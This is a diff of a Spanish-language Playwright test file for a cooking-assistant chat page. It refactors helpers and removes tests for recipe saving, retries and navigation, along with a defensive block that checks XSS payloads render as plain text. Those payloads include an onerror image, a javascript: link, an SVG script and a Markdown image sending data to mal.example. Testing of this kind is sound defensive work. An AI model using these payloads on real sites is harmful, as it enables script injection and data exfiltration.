@@ -1,49 +1,6 @@
-import { expect, type Page, type Route } from '@playwright/test'
+import { expect, type Route } from '@playwright/test'
+import { answering, ask, flan, input, log, never, open, says, send, waiting } from './assistant-steps.ts'
 import { expectAccessible, expectToast, newKitchen, test } from './kitchen.ts'
-
-const call = '**/functions/v1/ai-culinary-assistant'
-const flan = {
-  name: 'Flan de vainilla',
-  category: '',
-  servings: 6,
-  ingredients: [
-    { name: 'Leche', quantity: 1, unit: 'l' },
-    { name: 'Huevo', quantity: 6, unit: 'unidad' },
-  ],
-  method: 'Calentar la leche a 60 °C.\nMezclar con el huevo y cocer al baño maría a 80 °C.',
-}
-const reply = (response: string, more: object = {}) => ({
-  status: 200,
-  json: { response, engine: 'local', links: [], suggestions: [], ...more },
-})
-
-const input = (page: Page) => page.getByRole('textbox', { name: 'Tu consulta' })
-const log = (page: Page) => page.getByRole('log', { name: 'Conversación' })
-const send = (page: Page) => page.getByRole('button', { name: 'Enviar' })
-const waiting = (page: Page) => page.getByText('Generando respuesta...')
-
-const open = async (page: Page) => {
-  await page.goto('/ai-assistant')
-  await expect(input(page)).toBeVisible()
-}
-const ask = async (page: Page, question: string) => {
-  await input(page).fill(question)
-  await input(page).press('Enter')
-}
-/** Answers the calls that come, one behaviour after the other; the last one stays. */
-const answering = async (page: Page, ...behaviours: ((route: Route) => Promise<unknown>)[]) => {
-  const bodies: { messages: { role: string; content: string }[] }[] = []
-  await page.route(call, async (route) => {
-    bodies.push(route.request().postDataJSON())
-    await (behaviours.length > 1 ? behaviours.shift() : behaviours[0])?.(route)
-  })
-  return bodies
-}
-const says =
-  (response: string, more: object = {}) =>
-  (route: Route) =>
-    route.fulfill(reply(response, more))
-const never = () => new Promise<void>(() => undefined)
 
 test('el recibimiento, las salidas y las sugerencias; accesible de día y de noche', async ({ cook }) => {
   await open(cook)
@@ -97,63 +54,6 @@ test('el cuadro mide de 60 a 120 píxeles', async ({ cook }) => {
   await expect.poll(height).toBe(120)
   await input(cook).fill('')
   await expect.poll(height).toBe(60)
-})
-
-test('la receta que trae la respuesta se guarda sola, una vez, y se puede abrir', async ({ cook }) => {
-  const saves: string[] = []
-  cook.on('request', (request) => {
-    if (request.method() === 'POST' && request.url().endsWith('/rest/v1/recipes')) saves.push(request.postData() ?? '')
-  })
-  await answering(cook, says('Un **flan** de restaurante.', { recipe: flan }))
-  await open(cook)
-  await ask(cook, 'Crea un flan')
-  await expectToast(cook, '✅ Receta guardada en tu Biblioteca')
-  const sheet = log(cook).getByRole('region', { name: 'Flan de vainilla' })
-  await expect(sheet.getByText('6 raciones')).toBeVisible()
-  await expect(sheet.getByText('Sin categoría')).toBeVisible()
-  await expect(sheet.getByText('Guardada en tu Biblioteca')).toBeVisible()
-  await expectAccessible(cook)
-  expect(saves).toHaveLength(1)
-  expect(JSON.parse(saves[0] ?? '{}')).toMatchObject({
-    name: 'Flan de vainilla',
-    category: 'Sin categoría',
-    servings: 6,
-  })
-
-  await cook.reload()
-  await expect(sheet.getByText('Guardada en tu Biblioteca')).toBeVisible()
-  expect(saves).toHaveLength(1)
-  await sheet.getByRole('link', { name: 'Abrir la receta' }).click()
-  await expect(cook.getByRole('heading', { level: 1, name: 'Flan de vainilla' })).toBeVisible()
-})
-
-test('«Ver en Biblioteca» lleva a la biblioteca', async ({ cook }) => {
-  await answering(cook, says('Va.', { recipe: flan }))
-  await open(cook)
-  await ask(cook, 'Crea un flan')
-  await cook.getByRole('button', { name: 'Ver en Biblioteca' }).click()
-  await expect(cook).toHaveURL('/library')
-  await expect(cook.getByRole('link', { name: /Flan de vainilla/ }).first()).toBeVisible()
-})
-
-test('si no se guarda, se dice, la receta queda y se guarda otra vez sin repetirse', async ({ cook }) => {
-  const ids: string[] = []
-  await answering(cook, says('Va.', { recipe: flan }))
-  await cook.route('**/rest/v1/recipes', (route) => {
-    if (route.request().method() !== 'POST') return route.fallback()
-    ids.push(route.request().postDataJSON().id)
-    return ids.length === 1 ? route.abort() : route.fallback()
-  })
-  await open(cook)
-  await ask(cook, 'Crea un flan')
-  await expectToast(cook, 'Error', 'No se pudo crear la receta')
-  await expect(log(cook).getByText('Esta receta no está guardada.')).toBeVisible()
-  await cook.reload()
-  await cook.getByRole('button', { name: 'Guardar otra vez' }).click()
-  await expectToast(cook, '✅ Receta guardada en tu Biblioteca')
-  await expect(log(cook).getByText('Guardada en tu Biblioteca')).toBeVisible()
-  expect(ids).toHaveLength(2)
-  expect(ids[0]).toBe(ids[1])
 })
 
 test.describe('cuando falla', () => {
@@ -226,25 +126,6 @@ test('la conversación sobrevive a recargar, a irse y volver, y se envía entera
   ])
 })
 
-test('quien se va a otra pantalla mientras espera no pierde la respuesta', async ({ cook }) => {
-  let answer: () => void = () => undefined
-  const held = new Promise<void>((done) => {
-    answer = done
-  })
-  await answering(cook, async (route) => {
-    await held
-    await route.fulfill(reply('Va.', { recipe: flan }))
-  })
-  await open(cook)
-  await ask(cook, 'Crea un flan')
-  await cook.getByRole('link', { name: 'Gestión de Recetas' }).click()
-  await expect(cook).toHaveURL('/recipes')
-  answer()
-  await expectToast(cook, '✅ Receta guardada en tu Biblioteca')
-  await cook.goBack()
-  await expect(log(cook).getByText('Guardada en tu Biblioteca')).toBeVisible()
-})
-
 test('dos pestañas comparten la conversación sin pisarse', async ({ cook, context: _ }) => {
   const other = await cook.context().newPage()
   await answering(cook, says('Respuesta de la primera.'))
@@ -274,66 +155,6 @@ test('«Nueva conversación» empieza de cero y se puede deshacer; Salir se la l
   await expectToast(page, 'Sesión cerrada')
   const kept = () => page.evaluate(() => Object.keys(localStorage).filter((key) => key.includes('hasta-salir')))
   await expect.poll(kept).toEqual([])
-})
-
-test.describe('lo que un asistente no puede poner en pantalla', () => {
-  const attacks: [string, string, string][] = [
-    ['una imagen con trampa', '<img src=x onerror="window.hacked=1">', '<img src=x onerror="window.hacked=1">'],
-    [
-      'un enlace de JavaScript',
-      '<a href="javascript:window.hacked=1">pulsa</a>',
-      '<a href="javascript:window.hacked=1">pulsa</a>',
-    ],
-    ['SVG con guion', '<svg><script>window.hacked=1</script></svg>', '<svg><script>window.hacked=1</script></svg>'],
-    [
-      'una negrita con atributo',
-      '<strong onclick="window.hacked=1">hola</strong>',
-      '<strong onclick="window.hacked=1">hola</strong>',
-    ],
-    ['entidades', '&lt;script&gt;window.hacked=1&lt;/script&gt;', '&lt;script&gt;window.hacked=1&lt;/script&gt;'],
-    ['una imagen de Markdown', '![x](https://mal.example/?q=secreto)', '![x](https://mal.example/?q=secreto)'],
-    ['un enlace de Markdown', '[pulsa](https://mal.example)', '[pulsa](https://mal.example)'],
-    ['negritas sin cerrar', '**a **b** c', '**a b c'],
-    [
-      'un formulario',
-      '<form action=/x><input name=a><button>ok</button></form>',
-      '<form action=/x><input name=a><button>ok</button></form>',
-    ],
-    ['un comentario', '<!-- hola --><style>*{display:none}</style>', '<!-- hola --><style>*{display:none}</style>'],
-  ]
-  test('queda como texto, sin etiquetas ni atributos ni peticiones', async ({ cook }) => {
-    const outside: string[] = []
-    cook.on('request', (request) => {
-      if (request.url().includes('mal.example')) outside.push(request.url())
-    })
-    await answering(cook, ...attacks.map(([, text]) => says(text)))
-    await open(cook)
-    for (const [name, , shown] of attacks) {
-      await ask(cook, name)
-      const exchange = log(cook).getByRole('region', { name })
-      await expect(exchange.getByText(shown, { exact: true }), name).toBeVisible()
-      const found = await exchange
-        .locator('p')
-        .evaluateAll((paragraphs) =>
-          paragraphs.flatMap((one) => [...one.querySelectorAll('*')]).map((one) => one.outerHTML.slice(0, 80)),
-        )
-      expect(
-        found.filter((html) => !/^<(strong|em|br)>/.test(html)),
-        name,
-      ).toEqual([])
-    }
-    expect(await cook.evaluate(() => 'hacked' in window)).toBe(false)
-    expect(outside).toEqual([])
-  })
-
-  test('el formato que sí: negritas, listas y saltos', async ({ cook }) => {
-    await answering(cook, says('**Roux**\nMantequilla y *harina*:\n- 60 g\n- 60 g\n\n1. Fundir\n2. Añadir'))
-    await open(cook)
-    await ask(cook, '¿Qué es un roux?')
-    await expect(log(cook).locator('strong')).toHaveText('Roux')
-    await expect(log(cook).locator('em')).toHaveText('harina')
-    await expect(log(cook).getByRole('listitem')).toHaveText(['60 g', '60 g', 'Fundir', 'Añadir'])
-  })
 })
 
 test('4.000 caracteres pasan y 4.001 no; lo escrito no se recorta', async ({ cook }) => {
